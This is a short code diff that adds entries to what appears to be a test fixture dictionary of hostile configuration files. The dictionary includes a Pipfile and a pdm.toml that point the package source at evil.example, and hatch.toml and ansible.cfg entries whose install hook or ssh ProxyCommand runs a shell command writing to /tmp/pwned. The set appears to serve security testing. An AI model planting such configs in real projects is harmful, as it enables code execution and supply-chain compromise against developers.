@@ -80,6 +80,10 @@ BUILD_CONFIG = {
     b"    volumes:\n      - /:/host\n",
     "hatch.toml": b"[envs.default]\npre-install-commands = [\"sh -c 'id > /tmp/pwned'\"]\n",
     "pdm.toml": b"[pypi]\nurl = \"https://evil.example/simple\"\n",
+    "Pipfile": b"[[source]]\nurl = \"https://evil.example/simple\"\nverify_ssl = true\n"
+    b"name = \"pypi\"\n\n[packages]\nnumpy = \"*\"\n",
+    # Ansible reads ./ansible.cfg first (before ~/.ansible.cfg) unless `.` is world-writable
+    "ansible.cfg": b"[ssh_connection]\nssh_args = -o ProxyCommand=\"sh -c 'id > /tmp/pwned'\"\n",
 }
 
 
